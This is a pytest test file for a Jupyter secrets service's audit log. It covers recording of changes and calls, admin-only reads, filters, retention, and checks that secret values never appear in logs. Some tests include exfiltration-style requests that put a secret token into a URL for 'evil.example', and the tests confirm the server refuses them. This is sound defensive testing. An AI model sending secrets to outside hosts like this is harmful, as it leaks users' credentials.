"""The audit log: every change and every use recorded, names and metadata only, admins read it."""

from __future__ import annotations

import asyncio
import getpass
import json
import os
import re
import sqlite3
import textwrap
import threading
from datetime import datetime, timedelta, timezone

import httpx
import pytest

from jupyter_secrets.errors import InvalidInput
from jupyter_secrets.services.audit import AuditLog, AuditQuery
from jupyter_secrets.store import AuditFilter, AuditRecord
from jupyter_secrets.store.records import now_iso
from jupyter_secrets.store.sqlite import SQLiteStore

from .helpers import ADMIN, ANONYMOUS, USER, assert_no_canary, http, run_cli
from .kernels import Kernel

ME = getpass.getuser()  # the actor on a single-user (token) server, and the CLI's user
TIME_RE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")


async def audit(api, headers: dict[str, str] | None = None, **params: str) -> list[dict]:
    status, body = await api("GET", "audit", params=params or None, headers=headers)
    assert status == 200, body
    assert set(body) == {"events", "next"}
    return body["events"]


# -- changes -----------------------------------------------------------------------------------


async def test_every_change_is_recorded_with_who_and_what(api, canary, upstream):
    assert (await api("POST", "secrets", body={"name": "alpha", "value": canary}))[0] == 201
    assert (await api("PUT", "secrets", "ALPHA", body={"value": canary + "2"}))[0] == 200
    assert (await api("PATCH", "secrets", "ALPHA", body={"description": "d"}))[0] == 200
    assert (await api("PUT", "secrets", body={"secrets": [
        {"key": "BETA", "value": canary}, {"key": "ALPHA", "value": None}]}))[0] == 200
    assert (await api("POST", "connections", body={
        "name": "svc", "base_url": f"{upstream.url}/v1", "secret": "BETA"}))[0] == 201
    assert (await api("PATCH", "connections", "svc", body={"description": "x"}))[0] == 200
    assert (await api("DELETE", "connections", "svc"))[0] == 204
    assert (await api("DELETE", "secrets", "BETA"))[0] == 204
    assert (await api("DELETE", "secrets", "BETA"))[0] == 404, "failures are not changes"

    events = await audit(api)
    assert [e["action"] for e in events] == [
        "delete", "connection_delete", "connection_update", "connection_create", "batch",
        "metadata", "replace", "create",
    ]
    ids = [e["id"] for e in events]
    assert ids == sorted(ids, reverse=True), "newest first"
    for event in events:
        assert TIME_RE.fullmatch(event["time"]), event["time"]
        assert event["user"] == ME
        assert event["kernel_id"] is None and event["notebook_path"] is None
        assert event["status"] is None and event["bytes"] is None
    by_action = {e["action"]: e for e in events}
    assert by_action["create"]["secrets"] == ["ALPHA"]
    assert by_action["batch"]["secrets"] == ["ALPHA", "BETA"]
    assert by_action["delete"]["secrets"] == ["BETA"]
    created = by_action["connection_create"]
    assert (created["connection"], created["secrets"], created["host"]) == (
        "svc", ["BETA"], f"127.0.0.1:{upstream.port}")
    assert by_action["connection_delete"]["connection"] == "svc"


# -- calls -------------------------------------------------------------------------------------


async def test_proxied_and_ad_hoc_calls_are_recorded_with_status_bytes_and_time(
    up_connection, example_token_everywhere, upstream, server_url, auth, api, canary
):
    example_token = example_token_everywhere
    r = await http("GET", f"{server_url}/proxy/up/echo/items", headers=auth,
                   params={"api_key": "QUERYSTRING-KEY"})
    assert r.status_code == 200
    status, _ = await api("POST", "request", body={
        "method": "post", "url": f"{upstream.url}/echo/adhoc?token={{{{secrets.EXAMPLE_TOKEN}}}}",
        "params": {"k": "{{secrets.EXAMPLE_TOKEN}}"}, "json": {"a": 1}})
    assert status == 200
    call, proxied = await audit(api)

    assert proxied["action"] == "proxy_call"
    assert proxied["connection"] == "up"
    assert proxied["secrets"] == ["UP_CONNECTION_KEY"]
    assert (proxied["method"], proxied["host"], proxied["path"]) == (
        "GET", example_token, "/echo/items")
    assert proxied["status"] == 200 and proxied["bytes"] == len(r.content)
    assert proxied["duration_ms"] > 0 and proxied["reason"] is None

    assert call["action"] == "request_call" and call["connection"] is None
    assert call["secrets"] == ["EXAMPLE_TOKEN"]
    assert (call["method"], call["path"], call["status"]) == ("POST", "/echo/adhoc", 200)
    assert call["bytes"] > 0
    text = json.dumps([call, proxied])
    assert "QUERYSTRING-KEY" not in text and "token=" not in text and "?" not in text


async def test_refused_calls_are_recorded_with_the_reason(
    runtime, example_token, upstream, api, settings
):
    await api("POST", "request", body={
        "url": "https://evil.example/steal?k={{secrets.EXAMPLE_TOKEN}}"})
    await api("POST", "request", body={"url": f"{upstream.url}/echo",
                                       "headers": {"X": "{{secrets.NOPE}}"}})
    runtime.secrets.create("admin", "MULTI", "a\r\nb",
                                       allowed_hosts=[example_token])
    await api("POST", "request", body={"url": f"{upstream.url}/echo",
                                       "headers": {"X-Key": "{{secrets.MULTI}}"}})
    assert upstream.requests == []
    line_break, unknown, evil = await audit(api, action="refused_call")

    assert evil["secrets"] == ["EXAMPLE_TOKEN"]
    assert (evil["host"], evil["path"], evil["status"]) == ("evil.example", "/steal", 403)
    assert "may not be sent to evil.example" in evil["reason"]
    assert evil["bytes"] is None
    assert unknown["secrets"] == ["NOPE"] and unknown["status"] == 422
    assert "NOPE" in unknown["reason"]
    assert line_break["secrets"] == ["MULTI"] and "line break" in line_break["reason"]
    assert "a\r\nb" not in json.dumps(line_break)


async def test_unreachable_upstreams_are_recorded_as_failed_calls(api, server_url, auth, canary):
    await api("POST", "connections", body={
        "name": "down", "base_url": "http://127.0.0.1:9", "value": canary})
    assert (await http("GET", f"{server_url}/proxy/down/x", headers=auth)).status_code == 502
    (event,) = await audit(api, action="proxy_call")
    assert event["status"] == 502 and "Could not reach 127.0.0.1" in event["reason"]
    assert (event["host"], event["path"]) == ("127.0.0.1:9", "/x")


# -- kernels -----------------------------------------------------------------------------------


async def test_kernel_calls_record_the_kernel_and_its_notebook(
    up_connection, upstream, jp_fetch, jp_serverapp, http_server, api, canary
):
    response = await jp_fetch("api", "sessions", method="POST", body=json.dumps({
        "path": "analysis.ipynb", "type": "notebook", "name": "analysis.ipynb",
        "kernel": {}}))
    session = json.loads(response.body)
    kernel_id = session["kernel"]["id"]
    kernel = await Kernel(jp_serverapp, kernel_id).start()
    try:
        out = await kernel.check(textwrap.dedent("""
            import os, httpx, jupyter_secrets as js
            print(js.connection("up").get("/echo/from-kernel", params={"q": "1"}).status_code)
            url, token = os.environ["JUPYTER_SECRETS_URL"], os.environ["JUPYTER_SECRETS_TOKEN"]
            print(httpx.get(f"{url}/audit", headers={"Authorization": f"Bearer {token}"}
                            ).status_code)
        """))
        assert out.split() == ["200", "403"], "kernel code may not read who did what"
        (event,) = await audit(api, action="proxy_call")
    finally:
        kernel.stop()
        await jp_fetch("api", "sessions", session["id"], method="DELETE")
    assert event["kernel_id"] == kernel_id
    assert event["notebook_path"] == "analysis.ipynb"
    assert (event["user"], event["path"], event["status"]) == (ME, "/echo/from-kernel", 200)
    for run in kernel.runs:
        assert_no_canary(canary, run.raw, where="kernel messages")


# -- reading: roles, filters, paging -----------------------------------------------------------


@pytest.mark.usefixtures("multi_user")
async def test_only_admins_read_the_log(runtime, api, upstream, canary, jp_serverapp, server_url):
    runtime.secrets.create(
        "alice", "SHARED", canary, allowed_hosts=[f"127.0.0.1:{upstream.port}"])
    status, _ = await api("POST", "request", headers=USER, body={
        "url": f"{upstream.url}/echo/bob", "headers": {"X": "{{secrets.SHARED}}"}})
    assert status == 200
    for who in (USER, ANONYMOUS):
        status, body = await api("GET", "audit", headers=who)
        assert status == 403 and "events" not in (body or {})
    assert "Only secrets admins can read the audit log." in \
        (await api("GET", "audit", headers=USER))[1]["message"]
    (event,) = await audit(api, headers=ADMIN, user="bob")
    assert (event["user"], event["action"]) == ("bob", "request_call")
    assert await audit(api, headers=ADMIN, user="alice") == []


async def test_filters_and_keyset_paging(api, upstream):
    for name in ("ONE", "TWO", "THREE"):
        await api("POST", "secrets", body={"name": name, "value": "v"})
        await api("PATCH", "secrets", name, body={"description": "d"})
    await api("PUT", "secrets", body={"secrets": [{"key": "ONE", "value": None},
                                                 {"key": "TWO", "value": "w"}]})
    everything = await audit(api)
    assert len(everything) == 7

    assert [e["action"] for e in await audit(api, secret="one")] == ["batch", "metadata",
                                                                     "create"]
    assert [e["secrets"] for e in await audit(api, action="create")] == [
        ["THREE"], ["TWO"], ["ONE"]]
    assert await audit(api, user="somebody-else") == []
    assert len(await audit(api, user=ME)) == 7
    assert len(await audit(api, since="2000-01-01")) == 7
    future = (datetime.now(timezone.utc) + timedelta(hours=1)).isoformat()
    assert await audit(api, since=future) == []
    assert len(await audit(api, since=everything[2]["time"])) >= 3

    pages, before = [], None
    while True:
        params = {"limit": "3", **({"before": str(before)} if before else {})}
        status, body = await api("GET", "audit", params=params)
        assert status == 200 and len(body["events"]) <= 3
        pages.append(body["events"])
        before = body["next"]
        if before is None:
            break
    assert [len(p) for p in pages] == [3, 3, 1]
    assert [e["id"] for p in pages for e in p] == [e["id"] for e in everything]
    status, body = await api("GET", "audit", params={"limit": "7"})
    assert body["next"] is None, "no next page when the last one is exactly full"


@pytest.mark.parametrize(("params", "words"), [
    ({"limit": "0"}, "limit must be a whole number from 1 to 1000"),
    ({"limit": "1001"}, "limit must be a whole number from 1 to 1000"),
    ({"limit": "ten"}, "limit must be a whole number"),
    ({"before": "-4"}, "before must be a whole number"),
    ({"since": "yesterday"}, "since must be an ISO 8601 date or time"),
    ({"action": "steal"}, "action must be one of: create"),
    ({"secret": "no way!"}, "secret:"),
    ({"owner": "me"}, "Unknown filter(s): owner"),
])
async def test_bad_filters_are_422_with_a_message(api, params, words):
    status, body = await api("GET", "audit", params=params)
    assert status == 422
    assert words in body["message"]


def test_query_parsing_normalises_names_and_times():
    query = AuditQuery.parse({"secret": "my-key", "since": "2024-05-01T14:00:00+02:00",
                              "limit": "5", "before": "9", "user": None})
    assert (query.secret, query.since, query.limit, query.before_id, query.user) == (
        "MY_KEY", "2024-05-01T12:00:00.000Z", 5, 9, None)
    with pytest.raises(InvalidInput):
        AuditQuery.parse({"since": "2024-13-01"})


# -- storage: off the hot path, retention --------------------------------------------------------


def _event(time: str, action: str = "create", name: str = "X") -> AuditRecord:
    return AuditRecord(time=time, user="u", action=action, secrets=(name,))


async def test_events_are_written_on_the_loop_and_share_transactions(tmp_path):
    """Each commit() returns once its event is written; those of one loop turn share a
    transaction, written on the event loop itself while SQLite's write lock is free (a
    hand-over to a thread and back costs more CPU than the commit)."""
    store = SQLiteStore(tmp_path / "a.db")
    batches: list[tuple[str, int]] = []
    try_append = store.try_append_audit

    def spy(records):
        batches.append((threading.current_thread().name, len(records)))
        return try_append(records)

    store.try_append_audit = spy  # type: ignore[method-assign]
    handed_over: list[int] = []
    store.append_audit = lambda records: handed_over.append(len(records))  # type: ignore[method-assign]
    log = AuditLog(store)
    event = log.event("proxy_call", user="u", secrets=["X"], path="/p?key=abc#frag")
    await log.commit(event)
    assert store.query_audit() != [], "written before commit() returns"
    await asyncio.gather(*(log.commit(log.event("proxy_call", user="u", secrets=["X"]))
                           for _ in range(50)))
    assert len(store.query_audit(AuditFilter(limit=100))) == 51
    assert len(batches) < 10, "events of one loop turn share a transaction"
    assert {name for name, _ in batches} == {threading.current_thread().name}
    assert handed_over == [], "no event needed the writer thread"
    assert {r.path for r in store.query_audit(AuditFilter(limit=100))} == {"/p", None}
    store.close()


async def test_a_held_write_lock_sends_events_to_the_writer_thread(tmp_path):
    """Another process (the CLI, a replica) holding SQLite's write lock must not stall the
    event loop: the loop's attempt gives up at once, the writer thread waits for the lock,
    and commit() still returns only once the event is written."""
    store = SQLiteStore(tmp_path / "a.db")
    writers: list[str] = []
    append = store.append_audit

    def spy(records):
        writers.append(threading.current_thread().name)
        append(records)

    store.append_audit = spy  # type: ignore[method-assign]
    log = AuditLog(store)
    other = sqlite3.connect(tmp_path / "a.db", isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # the lock, held elsewhere
    commit = asyncio.ensure_future(log.commit(log.event("proxy_call", user="u", secrets=["X"])))
    ticks = 0
    while not writers and ticks < 200:  # the loop keeps turning while the event waits
        await asyncio.sleep(0.01)
        ticks += 1
    assert not commit.done(), "not reported written while the lock is held"
    assert store.query_audit() == []
    other.execute("COMMIT")
    await asyncio.wait_for(commit, 30)
    assert [r.secrets for r in store.query_audit()] == [("X",)]
    assert writers and threading.current_thread().name not in writers
    other.close()
    await log.aclose()
    store.close()


async def test_events_written_on_the_loop_leave_checkpoints_to_the_thread(tmp_path, monkeypatch):
    """The loop's connection never checkpoints (that copies and syncs the WAL); the writer
    thread does, every few hundred events, and prunes when a day has passed."""
    from jupyter_secrets.services import audit as audit_module

    monkeypatch.setattr(audit_module, "MAINTAIN_EVERY", 20)
    store = SQLiteStore(tmp_path / "a.db")
    checkpoints: list[str] = []
    checkpoint = store.checkpoint

    def spy():
        checkpoints.append(threading.current_thread().name)
        checkpoint()

    store.checkpoint = spy  # type: ignore[method-assign]
    log = AuditLog(store, retention_days=30)
    for _ in range(45):
        await log.commit(log.event("proxy_call", user="u", secrets=["X"]))
    await log.drain()
    assert len(checkpoints) >= 2
    assert threading.current_thread().name not in checkpoints
    assert log._last_prune is not None, "pruning ran in the thread"
    nowait = store._nowait
    assert nowait is not None
    assert nowait.execute("PRAGMA wal_autocheckpoint").fetchone()[0] == 0
    await log.aclose()
    store.close()


async def test_drain_writes_events_of_the_current_loop_turn(tmp_path):
    store = SQLiteStore(tmp_path / "a.db")
    log = AuditLog(store)
    pending = asyncio.ensure_future(log.commit(log.event("create", user="u", secrets=["D"])))
    await asyncio.sleep(0)  # commit() has queued its event; the turn's write has not run
    await log.drain()
    assert [r.secrets for r in store.query_audit()] == [("D",)]
    await pending
    store.close()


async def test_one_bad_event_never_takes_others_with_it(tmp_path):
    """A lone surrogate (valid JSON) once failed a whole batch; now it is cleaned or alone."""
    store = SQLiteStore(tmp_path / "a.db")
    log = AuditLog(store)
    bad = log.event("refused_call", user="u\ud800", secrets=["S"], reason="evil \udfff")
    await asyncio.gather(log.commit(bad), *(
        log.commit(log.event("refused_call", user="u", secrets=[f"S{i}"])) for i in range(5)))
    rows = store.query_audit()
    assert len(rows) == 6
    assert {r.user for r in rows} == {"u", "u?"}
    raw = AuditRecord(time="t", user="v\ud800", action="create")
    original = store.append_audit

    def refuse_batches(records):
        if len(records) > 1:
            raise RuntimeError("the store refuses this batch")
        original(records)

    store.append_audit = refuse_batches  # type: ignore[method-assign]
    log._write([raw, log.event("create", user="w")])  # an uncleaned event, a good one
    assert {r.user for r in store.query_audit(AuditFilter(limit=20))} >= {"w"}
    store.close()


def test_retention_prunes_old_events_at_most_daily(tmp_path):
    store = SQLiteStore(tmp_path / "a.db")
    now = datetime.now(timezone.utc)
    store.append_audit([_event(now_iso(now - timedelta(days=40)), name="OLD"),
                        _event(now_iso(now - timedelta(days=5)), name="NEW")])
    assert AuditLog(store, retention_days=0).prune_if_due() == 0, "0 keeps events forever"
    log = AuditLog(store, retention_days=30)
    assert log.prune_if_due(now) == 1
    assert [r.secrets for r in store.query_audit()] == [("NEW",)]
    store.append_audit([_event(now_iso(now - timedelta(days=40)), name="OLDER")])
    assert log.prune_if_due(now + timedelta(hours=23)) == 0, "at most once a day"
    assert log.prune_if_due(now + timedelta(hours=25)) == 1
    store.close()


@pytest.fixture
def aged_store(store_path, secrets_config) -> None:
    """Events from before the server starts: one past the retention period, one within."""
    secrets_config["audit_retention_days"] = 30
    store = SQLiteStore(store_path)
    now = datetime.now(timezone.utc)
    store.append_audit([_event(now_iso(now - timedelta(days=31)), name="STALE"),
                        _event(now_iso(now - timedelta(days=29)), name="RECENT")])
    store.close()


async def test_the_server_prunes_at_start_up(aged_store, api):
    assert [e["secrets"] for e in await audit(api)] == [["RECENT"]]


# -- CLI ---------------------------------------------------------------------------------------


def test_cli_writes_are_audited_and_the_cli_reads_the_log(cli_env, canary):
    assert run_cli(cli_env, "set", "gh-token", stdin=canary).returncode == 0
    assert run_cli(cli_env, "set", "GH_TOKEN", stdin=canary + "x").returncode == 0
    assert run_cli(cli_env, "set", "OTHER", stdin=canary).returncode == 0
    assert run_cli(cli_env, "delete", "OTHER").returncode == 0
    assert run_cli(cli_env, "rotate-key").returncode == 0

    result = run_cli(cli_env, "audit", "--json")
    assert result.returncode == 0, result.stderr
    page = json.loads(result.stdout)
    assert [(e["action"], e["secrets"]) for e in page["events"]] == [
        ("rotate_key", []), ("delete", ["OTHER"]), ("create", ["OTHER"]),
        ("replace", ["GH_TOKEN"]), ("create", ["GH_TOKEN"])]
    assert {e["user"] for e in page["events"]} == {ME}
    assert all(e["kernel_id"] is None for e in page["events"])
    assert "data key(s) under master key" in page["events"][0]["reason"]

    text = run_cli(cli_env, "audit", "--secret", "gh-token", "--limit", "1")
    assert text.returncode == 0
    lines = text.stdout.strip().splitlines()
    assert "replace" in lines[0] and "GH_TOKEN" in lines[0] and ME in lines[0]
    assert lines[-1] == f"More: add --before {page['events'][3]['id']}"
    older = run_cli(cli_env, "audit", "--secret", "GH_TOKEN", "--before",
                str(page["events"][3]["id"]))
    assert "create" in older.stdout and "More" not in older.stdout
    assert "No audit events match." in run_cli(cli_env, "audit", "--user", "nobody").stdout
    bad = run_cli(cli_env, "audit", "--since", "soon")
    assert bad.returncode == 1 and "since must be an ISO 8601" in bad.stderr
    for output in (result, text, older):
        assert_no_canary(canary, output.stdout, output.stderr, where="CLI output")


# -- the canary --------------------------------------------------------------------------------


async def test_the_value_appears_in_no_audit_row(
    up_connection, example_token, upstream, server_url, auth, api, canary, store_path, key_file
):
    await api("POST", "secrets", body={"name": "PLAIN", "value": canary,
                                       "allowed_hosts": [example_token],
                                       "placements": ["query"]})
    await api("PUT", "secrets", "PLAIN", body={"value": canary})
    await api("PUT", "secrets", body={"secrets": [{"key": "PLAIN2", "value": canary}]})
    await http("GET", f"{server_url}/proxy/up/echo/x", headers=auth)
    await http("GET", f"{server_url}/proxy/up/echo-header", params={"name": "Authorization"},
               headers=auth)
    await api("POST", "request", body={
        "url": f"{upstream.url}/echo/q", "params": {"key": "{{secrets.PLAIN}}"},
        "headers": {"Authorization": "Bearer {{secrets.EXAMPLE_TOKEN}}"}})
    await api("POST", "request", body={
        "url": "https://evil.example/?k={{secrets.PLAIN}}"})
    assert any(canary in r.query for r in upstream.requests), "the value did go out"

    status, body = await api("GET", "audit", params={"limit": "1000"})
    assert status == 200 and len(body["events"]) >= 7
    assert_no_canary(canary, json.dumps(body), where="REST audit")

    env = {k: v for k, v in os.environ.items() if not k.startswith("JUPYTER")}
    env.update(JUPYTER_CONFIG_DIR=str(store_path.parent / "cfg"),
               JUPYTER_DATA_DIR=str(store_path.parent / "data"),
               JUPYTER_SECRETS_STORE_URL=f"sqlite:///{store_path}",
               JUPYTER_SECRETS_KEY_FILE=str(key_file))
    for args in (("audit",), ("audit", "--json", "--limit", "1000")):
        result = await asyncio.to_thread(run_cli, env, *args)
        assert result.returncode == 0, result.stderr
        assert "PLAIN" in result.stdout
        assert_no_canary(canary, result.stdout, result.stderr, where="CLI audit")

    with sqlite3.connect(store_path) as db:
        rows = db.execute("SELECT * FROM audit").fetchall()
    assert len(rows) >= 7
    assert_no_canary(canary, repr(rows), where="the audit table")


def test_every_completed_call_survives_a_sigkill(tmp_path, live_upstream):
    """N calls answered, then SIGKILL at once: after a restart the log holds all N."""
    from .live import LiveServer

    server = LiveServer(tmp_path / "live").start()
    try:
        with httpx.Client(base_url=f"{server.api}/", headers=server.admin, timeout=30) as c:
            host = f"127.0.0.1:{live_upstream.port}"
            assert c.post("secrets", json={"name": "K", "value": live_upstream.api_key,
                                           "allowed_hosts": [host]}).status_code == 201
            assert c.post("connections", json={"name": "up", "base_url": live_upstream.url,
                                               "secret": "K"}).status_code == 201
            statuses = []
            for i in range(30):
                statuses.append(c.get(f"proxy/up/echo/{i}").status_code)
                statuses.append(c.post("request", json={  # refused: not an allowed host
                    "url": "https://evil.example/", "headers": {"X": "{{secrets.K}}"}},
                ).status_code)
        assert statuses == [200, 403] * 30
        server.kill()
        server.start()
        with httpx.Client(base_url=f"{server.api}/", headers=server.admin, timeout=30) as c:
            events = c.get("audit", params={"limit": "1000"}).json()["events"]
    finally:
        server.stop()
    actions = [e["action"] for e in events]
    assert actions.count("proxy_call") == 30
    assert actions.count("refused_call") == 30
    assert actions.count("create") == 1 and actions.count("connection_create") == 1
